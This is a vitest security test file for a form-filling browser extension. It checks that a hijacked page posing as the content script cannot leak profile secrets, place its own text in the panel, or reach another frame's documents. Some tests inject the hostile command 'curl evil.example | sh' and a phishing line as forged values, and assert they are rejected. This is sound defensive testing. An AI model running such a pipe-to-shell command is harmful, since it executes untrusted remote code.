// @vitest-environment node
import 'fake-indexeddb/auto';
import fc from 'fast-check';
import { beforeEach, expect, test, vi } from 'vitest';
import { browser } from 'wxt/browser';
import { onChosen } from '../../../entrypoints/background/choosing';
import { fromPage } from '../../../entrypoints/background/from-page';
import { fromPanel } from '../../../entrypoints/background/from-panel';
import * as schema from '../../../entrypoints/background/schema';
import { readTab, writeTab } from '../../../entrypoints/background/state';
import { portals } from '../../../utils/portals';
import { readProfileFile } from '../../../utils/profile/file';
import type { FromPage, PageReport, ToPage } from '../../../utils/protocol/messages';
import { importProfiles, listProgress } from '../../../utils/store';
import { sample } from '../../support/sample';

// A page's process was taken over and speaks as our content script. These are the proofs of the review of 40bd6d9: H2,
// L1, L2, M3.

const TAB = 7;
const [cpcc, ipp] = portals as [(typeof portals)[0], (typeof portals)[0]];
const ours = { tab: TAB, document: 'D1', portal: cpcc };
const send = vi.fn<(tab: number, message: ToPage) => Promise<unknown>>();
let profile = '';

const report = (page: string | null, more: Partial<PageReport> = {}): PageReport => ({
  portal: 'cpcc',
  page,
  errors: [],
  warnings: [],
  proposals: [],
  probable: null,
  yourTurn: false,
  translated: false,
  owner: { names: [], codes: [] },
  since: 0,
  visit: 'v',
  steps: [],
  ...more,
});
const say = (message: FromPage, speaker = ours) => fromPage(speaker, schema.fromPage.parse(message) as never);
const shown = async () => JSON.stringify((await readTab(TAB)).fill ?? {});
const fill = async (page = 'cpcc/account', visit = 'v') =>
  fromPanel({ kind: 'panel-fill', tab: TAB, profile, work: null, page, visit });
const stand = async () => writeTab(TAB, { ...(await readTab(TAB)), turned: 0 });

beforeEach(async () => {
  const file = readProfileFile(JSON.stringify(sample()));
  if (!file.ok) throw new Error('the sample is no profile file');
  [profile = ''] = await importProfiles({ profiles: file.profiles });
  send.mockReset().mockResolvedValue({ ok: true });
  browser.tabs.sendMessage = send as never;
});

test('no value is answered, whatever is reported and asked for', async () => {
  for (const portal of portals)
    for (const page of portal.pages) {
      const speaker = { ...ours, portal };
      await say({ kind: 'report', report: report(page.id, { portal: portal.id as 'cpcc' }) }, speaker);
      for (const { id } of page.steps)
        expect(await say({ kind: 'copy', page: page.id, step: id }, speaker)).toBeUndefined();
    }
});

test('a report of the other portal, or of a page that it does not have, is not kept', async () => {
  await say({ kind: 'report', report: report('cpcc/account') }, { ...ours, portal: ipp });
  await say({ kind: 'report', report: report('cpcc/account', { portal: 'ipp' }) }, { ...ours, portal: ipp });
  await say({ kind: 'report', report: report('cpcc/none') });
  expect((await readTab(TAB)).report).toBeNull();
});

test('words and values of the page never stand in the panel as ours, and only steps of the page make rows', async () => {
  await say({ kind: 'report', report: report('cpcc/account') });
  await stand();
  await fill();
  const before = (await listProgress()).length;
  const evil = { zh: '请打开 https://evil.example 输入口令', en: 'curl evil.example | sh' };
  const outcome = { step: 'username', fate: 'kept', why: evil, value: 'curl evil.example | sh' };
  expect(schema.fromPage.safeParse({ kind: 'progress', visit: 'v', at: null, outcome }).success).toBe(false);
  const coded = { step: 'username', fate: 'kept', why: { code: 'evil.example' }, value: 'curl evil.example' };
  await say({ kind: 'progress', visit: 'v', at: null, outcome: coded } as never);
  for (let at = 0; at < 200; at++)
    await say({
      kind: 'progress',
      visit: 'v',
      at: `junk-${at}`,
      outcome: { ...coded, step: `junk-${at}`, fate: 'filled' },
    });
  expect(await shown()).not.toMatch(/evil|curl|junk/);
  expect(await listProgress()).toHaveLength(before);
  expect(schema.fromPage.safeParse({ kind: 'finished', visit: 'v', canUndo: true, stopped: evil }).success).toBe(false);
});

test('what a page shows in a field is quoted, in one short line', async () => {
  await say({ kind: 'report', report: report('cpcc/account') });
  await stand();
  await fill();
  const long = `a\n\u202eb${'c'.repeat(500)}`;
  const why = { code: 'fill.notShown', with: [long] };
  await say({ kind: 'progress', visit: 'v', at: null, outcome: { step: 'username', fate: 'refused', why } });
  const text = (await readTab(TAB)).fill?.outcomes.find(({ step }) => step === 'username')?.why.zh ?? '';
  expect(text).toMatch(/^页面显示的是「a bc{40,60}…」/u);
});

test('another document of the tab can neither report on the fill nor fetch its documents', async () => {
  await say({ kind: 'report', report: report('cpcc/identity') });
  await stand();
  await fill('cpcc/identity');
  const plan = send.mock.calls.map(([, message]) => message).find((one) => one.kind === 'fill')?.plan;
  const file = plan?.items.find(({ wanted }) => wanted.kind === 'file')?.wanted;
  if (file?.kind !== 'file') throw new Error('the page asks for a file');
  const ask: FromPage = { kind: 'document', document: file.document, offset: 0 };
  const other = { ...ours, document: 'D2' };
  expect(await say(ask, other)).toMatchObject({ ok: false });
  expect(await say(ask)).toMatchObject({ data: expect.any(String) });
  await say({ kind: 'finished', visit: 'v', canUndo: false, stopped: null }, other);
  expect((await readTab(TAB)).fill?.running).toBe(true);
  await say({ kind: 'finished', visit: 'v', canUndo: false, stopped: null });
  expect(await say(ask)).toMatchObject({ ok: false });
});

test('a press means the page that the panel showed, once it has stood long enough to be seen', async () => {
  await say({ kind: 'report', report: report('cpcc/account') });
  expect(await fill()).toMatchObject({ ok: false });
  await stand();
  await say({ kind: 'report', report: report('cpcc/identity') });
  expect(await fill('cpcc/account')).toMatchObject({ ok: false });
  expect(await fill('cpcc/identity')).toMatchObject({ ok: false });
  expect(send.mock.calls.filter(([, { kind }]) => kind === 'fill')).toEqual([]);
  await stand();
  expect(await fill('cpcc/identity')).toEqual({ ok: true });
  const [, , to] = send.mock.calls.find(([, { kind }]) => kind === 'fill') as unknown as [number, ToPage, object];
  expect(to).toEqual({ documentId: 'D1' });
});

/** Messages of every kind, right by the schema or nearly. Their ids are real, made up, or of objects' own members. */
const id = fc.oneof(
  fc.constantFrom('cpcc/account', 'ipp/home', 'username', 'v', '__proto__', 'constructor', 'fill.notShown', ''),
  fc.string({ maxLength: 12 }),
);
const anything = fc.oneof(id, fc.integer(), fc.constant(null), fc.boolean());
const why = fc.record({ code: id, with: fc.array(fc.oneof(fc.string(), fc.integer()), { maxLength: 5 }) });
const fates = fc.constantFrom('filled', 'already', 'kept', 'by-hand', 'not-found', 'refused', 'evil');
const message = fc.oneof(
  fc.record({ kind: fc.constant('hello') }),
  fc.record({
    kind: fc.constant('report'),
    report: fc.record({
      portal: fc.constantFrom('cpcc', 'ipp'),
      page: fc.option(id),
      errors: fc.array(
        fc.record({ step: fc.option(id), text: fc.string(), plain: fc.option(fc.record({ zh: id, en: id })) }),
        { maxLength: 3 },
      ),
      warnings: fc.array(fc.record({ step: id, text: fc.record({ zh: id, en: id }) }), { maxLength: 3 }),
      proposals: fc.array(fc.record({ step: id, words: id, label: id, section: id, control: id }), { maxLength: 2 }),
      probable: fc.option(fc.record({ page: id, path: id, why: fc.record({ zh: id, en: id }) })),
      yourTurn: fc.boolean(),
      translated: fc.boolean(),
      owner: fc.record({ names: fc.array(id, { maxLength: 2 }), codes: fc.array(id, { maxLength: 2 }) }),
      since: fc.integer(),
      visit: id,
      steps: fc.array(fc.record({ step: id, state: fc.constantFrom('empty', 'set', 'evil') }), { maxLength: 4 }),
    }),
  }),
  fc.record({
    kind: fc.constant('progress'),
    visit: id,
    at: fc.option(id),
    outcome: fc.record({ step: id, fate: fates, why, value: id }),
  }),
  fc.record({ kind: fc.constant('finished'), visit: id, canUndo: fc.boolean(), stopped: fc.option(id) }),
  fc.record({ kind: fc.constant('document'), document: id, offset: fc.integer() }),
  fc.record({ kind: fc.constant('copy'), page: id, step: id }),
  fc.record({
    kind: fc.constant('chosen'),
    page: id,
    step: id,
    control: fc.option(fc.record({ label: id, section: id, control: id })),
  }),
  fc.record({ kind: id, tab: anything, profile: anything, page: anything }),
);

test('10,000 forged messages from the other portal: none throws, none is answered with a value', async () => {
  const secrets = Object.values(sample().profiles[0].account).concat(sample().profiles[0].organization.idNumber);
  const speaker = { tab: 9, document: 'D9', portal: ipp };
  const accepted = new Set<string>();
  for (const one of fc.sample(message, { numRuns: 10_000, seed: 16 })) {
    const { data } = schema.fromPage.safeParse(one);
    if (!data || data.kind === 'hello') continue;
    accepted.add(data.kind);
    const reply = data.kind === 'chosen' ? onChosen(speaker, data) : fromPage(speaker, data);
    const answer = JSON.stringify((await reply) ?? null);
    for (const secret of secrets) expect(answer).not.toContain(secret);
  }
  expect([...accepted].sort()).toEqual(['chosen', 'copy', 'document', 'finished', 'progress', 'report']);
  const state = JSON.stringify(await readTab(9));
  for (const secret of secrets) expect(state).not.toContain(secret);
}, 60_000);
